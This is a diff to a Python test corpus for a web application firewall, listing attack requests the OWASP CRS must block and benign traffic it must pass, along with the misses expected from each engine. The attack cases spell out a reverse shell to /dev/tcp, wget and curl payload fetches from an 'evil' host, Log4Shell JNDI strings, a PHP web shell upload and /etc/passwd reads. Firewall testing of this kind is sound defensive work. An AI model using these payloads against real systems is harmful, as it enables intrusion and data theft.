@@ -2,14 +2,15 @@
 """A small labelled corpus: attacks the CRS must block, ordinary traffic it must pass.
 
 Each case is (name, method, uri, extra headers, body). Extra headers replace the
-browser defaults of :data:`tests.waf.helpers.BROWSER`.
+browser defaults of :data:`tests.waf.helpers.BROWSER`. The corpus runs with
+:data:`CORPUS_SETTINGS` (paranoia level 1, a binary-upload path).
 """
 
 from __future__ import annotations
 
 import json
 
-__all__ = ["Case", "ATTACKS", "BENIGN"]
+__all__ = ["Case", "ATTACKS", "BENIGN", "CORPUS_SETTINGS", "EXPECTED_MISSES"]
 
 Case = tuple[str, str, str, list[tuple[str, str]], bytes]
 
@@ -40,6 +41,9 @@ _PHOTO_TYPE, _PHOTO = _multipart(
 )
 _SHELL_TYPE, _SHELL = _multipart("shell.php", b"<?php system($_GET['c']); ?>")
 _CSV_TYPE, _CSV = _multipart("report.csv", b"date,amount\n2024-01-02,12.50\n2024-01-03,7.25\n")
+_AVATAR_TYPE, _AVATAR = _multipart(
+    "me.png", b"\x89PNG\r\n\x1a\n" + bytes(range(255, -1, -1)) * 8, "avatar"
+)
 
 # fmt: off
 ATTACKS: list[Case] = [
@@ -77,8 +81,13 @@ ATTACKS: list[Case] = [
     # Command injection
     ("rce semicolon", "GET", "/ping?host=127.0.0.1;cat%20/etc/passwd", [], b""),
     ("rce pipe", "GET", "/ping?host=x%7C%7Cwhoami", [], b""),
-    # Known miss at PL1: a bare "| id" scores nothing.
+    # Known miss at PL1 on both engines: a bare "| id" scores nothing (CRS 4: PL3, 932350).
     ("rce short pipe", "GET", "/?cmd=|%20id", [], b""),
+    ("rce pipe cat", "GET", "/?cmd=|%20cat%20/etc/passwd", [], b""),
+    ("rce pipe whoami", "GET", "/?cmd=|%20whoami", [], b""),
+    ("rce and-and", "GET", "/?host=localhost%26%26uname%20-a", [], b""),
+    ("rce reverse shell body", "POST", "/api/exec", JSON, _json({"cmd": "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"})),
+    ("rce wget pipe sh", "POST", "/hooks", FORM, b"url=x%3Bwget%20-qO-%20http%3A%2F%2Fevil%2Fa.sh%7Csh"),
     ("rce backticks", "GET", "/?x=%60whoami%60", [], b""),
     ("rce subshell", "GET", "/?x=$(curl%20http://evil/x.sh)", [], b""),
     ("rce form", "POST", "/tools/ping", FORM, b"ip=8.8.8.8%3Bwget%20http%3A%2F%2Fevil%2Fx"),
@@ -89,10 +98,23 @@ ATTACKS: list[Case] = [
     ("php code", "GET", "/?x=%3C?php%20system($_GET[%27c%27]);%20?%3E", [], b""),
     ("php wrapper", "GET", "/?page=php://filter/convert.base64-encode/resource=index.php", [], b""),
     ("php upload", "POST", "/upload", [("content-type", _SHELL_TYPE)], _SHELL),
-    # Known miss: Debian's CRS 3.3.4 has no log4j rule (944150 came later);
-    # in a query the shell-expression rule still catches it.
+    # Log4Shell: CRS 4 rule 944150 at PL1; Debian's CRS 3.3.4 has no log4j rule
+    # (in a query its shell-expression rule still catches it).
     ("log4shell user-agent", "GET", "/", [("user-agent", "${jndi:ldap://evil.example/a}")], b""),
     ("log4shell query", "GET", "/?x=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D", [], b""),
+    ("log4shell header", "GET", "/", [("x-api-version", "${jndi:ldap://evil.example/a}")], b""),
+    ("log4shell referer", "GET", "/", [("referer", "${jndi:rmi://evil.example:1099/x}")], b""),
+    ("log4shell obfuscated", "GET", "/", [("user-agent", "${${lower:j}ndi:${lower:l}dap://evil.example/a}")], b""),
+    ("log4shell json body", "POST", "/api/login", JSON, _json({"username": "${jndi:ldap://evil.example/a}", "password": "x"})),
+    ("log4shell form body", "POST", "/login", FORM, b"username=%24%7Bjndi%3Adns%3A%2F%2Fevil.example%2Fa%7D&password=x"),
+    ("php phpinfo", "GET", "/?x=phpinfo()", [], b""),
+    ("php object injection", "POST", "/cart", FORM, b"data=O%3A8%3A%22stdClass%22%3A1%3A%7Bs%3A4%3A%22file%22%3Bs%3A11%3A%22%2Fetc%2Fpasswd%22%3B%7D"),
+    ("php data scheme", "GET", "/?page=data://text/plain;base64,PD9waHAgc3lzdGVtKCdpZCcpOyA/Pg==", [], b""),
+    ("java spring4shell", "POST", "/greeting", FORM, b"class.module.classLoader.resources.context.parent.pipeline.first.pattern=x"),
+    ("java deserialization", "POST", "/api/object", [("content-type", "text/plain")], b"rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZZTaMLT7P4Kx"),
+    ("node prototype pollution", "POST", "/api/settings", JSON, _json({"__proto__": {"isAdmin": True}})),
+    ("node proto query", "GET", "/?__proto__[isAdmin]=true", [], b""),
+    ("ssrf cloud metadata", "GET", "/fetch?url=http://169.254.169.254/latest/meta-data/iam/", [], b""),
     ("java class", "GET", "/?x=java.lang.Runtime.getRuntime().exec(%22id%22)", [], b""),
     ("node injection", "POST", "/api/eval", JSON, _json({"code": "require('child_process').exec('id')"})),
     # Scanners
@@ -101,12 +123,19 @@ ATTACKS: list[Case] = [
     ("scanner nmap", "GET", "/", [("user-agent", "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)")], b""),
     ("scanner masscan", "GET", "/", [("user-agent", "masscan/1.3 (https://github.com/robertdavidgraham/masscan)")], b""),
     ("scanner dirbuster", "GET", "/", [("user-agent", "DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)")], b""),
+    ("scanner nuclei", "GET", "/", [("user-agent", "Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))")], b""),
+    ("scanner wfuzz", "GET", "/", [("user-agent", "Wfuzz/3.1.0")], b""),
+    ("scanner gobuster", "GET", "/", [("user-agent", "gobuster/3.6")], b""),
     # Protocol attacks
     ("response splitting", "GET", "/?x=%0d%0aSet-Cookie:%20evil=1", [], b""),
     ("header injection", "GET", "/?lang=en%0d%0aContent-Length:%200", [], b""),
     ("smuggling in body", "POST", "/form", FORM, b"a=x%0d%0a%0d%0aGET%20/admin%20HTTP/1.1%0d%0aHost:%20x"),
     ("smuggling cl+te", "GET", "/", [("content-length", "5"), ("transfer-encoding", "chunked")], b""),
+    ("method not allowed", "TRACE", "/", [], b""),
+    ("null byte in uri", "GET", "/?file=report.pdf%00.php", [], b""),
+    ("content type not allowed", "POST", "/api/import", [("content-type", "application/x-evil")], b"a=b"),
     ("restricted file", "GET", "/.git/config", [], b""),
+    ("restricted env file", "GET", "/.env", [], b""),
     ("restricted extension", "GET", "/backup/db.sql", [], b""),
     ("session fixation", "GET", "/?PHPSESSID=attacker-chosen-id&x=%3Cmeta%20http-equiv=Set-Cookie%20content=%22PHPSESSID=1%22%3E", [], b""),
 ]
@@ -148,5 +177,36 @@ BENIGN: list[Case] = [
     ("mobile app", "GET", "/api/v2/feed?limit=20&cursor=MTcwNDIwMDAwMA%3D%3D", [("user-agent", "ShopApp/5.3.1 (iPhone; iOS 17.2; Scale/3.00)"), ("accept", "application/json")], b""),
     ("long article path", "GET", "/blog/2024/01/15/how-to-choose-running-shoes-a-complete-guide", [], b""),
     ("encoded slash in id", "GET", "/files/report%202024.pdf", [], b""),
+    ("product slug", "GET", "/products/acme-trail-runner-2-mens-blue?ref=home&variant=42", [], b""),
+    ("pagination json", "GET", "/api/v1/orders?limit=50&offset=100&sort=-created_at", [("accept", "application/json")], b""),
+    ("signup form", "POST", "/signup", FORM, b"first_name=Zo%C3%AB&last_name=Smith-Jones&email=zoe%40example.org&password=correct+horse+battery+staple&terms=on"),
+    ("search with dash and quote", "GET", "/search?q=%22blue+suede+shoes%22+-used", [], b""),
+    ("json nested api", "POST", "/api/v1/carts/9/items", JSON, _json({"item": {"sku": "TEE-M-BLK", "qty": 1, "options": {"gift": False, "message": "Happy birthday, Sam!"}}})),
+    ("json array api", "POST", "/api/v1/events", JSON, _json([{"type": "page_view", "path": "/products/42", "ts": 1704200000}, {"type": "click", "target": "add-to-cart"}])),
+    ("multipart avatar", "POST", "/account/avatar", [("content-type", _AVATAR_TYPE)], _AVATAR),
+    ("binary upload excluded path", "POST", "/upload/raw/backup.img", [("content-type", "application/octet-stream")], bytes(range(256)) * 32),
 ]
 # fmt: on
+
+CORPUS_SETTINGS = {"exclusions": [{"rule_id": 920420, "path_prefix": "/upload/raw"}]}
+"The site's settings: octet-stream uploads allowed under /upload/raw only."
+
+EXPECTED_MISSES: dict[str, dict[str, str]] = {
+    "coraza": {
+        # CRS 4 has no paranoia level 1 rule for these; the level that catches them:
+        "rce short pipe": "PL3 (932350)",
+    },
+    "modsecurity": {
+        "rce short pipe": "no CRS 3 rule below PL3",
+        # Debian's CRS 3.3.4 predates the Log4Shell rules (944150-944152); only a
+        # query hits its generic shell-expression rule.
+        "log4shell user-agent": "CRS 3.3.4 has no Log4Shell rule",
+        "log4shell header": "CRS 3.3.4 has no Log4Shell rule",
+        "log4shell referer": "CRS 3.3.4 has no Log4Shell rule",
+        "log4shell obfuscated": "CRS 3.3.4 has no Log4Shell rule",
+        "java spring4shell": "CRS 3.3.4 predates the Spring4Shell rule",
+        "node prototype pollution": "CRS 3.3.4 has no prototype pollution rule (934130)",
+        "node proto query": "CRS 3.3.4 has no prototype pollution rule (934130)",
+    },
+}
+"Attacks each engine lets through at paranoia level 1, and why."
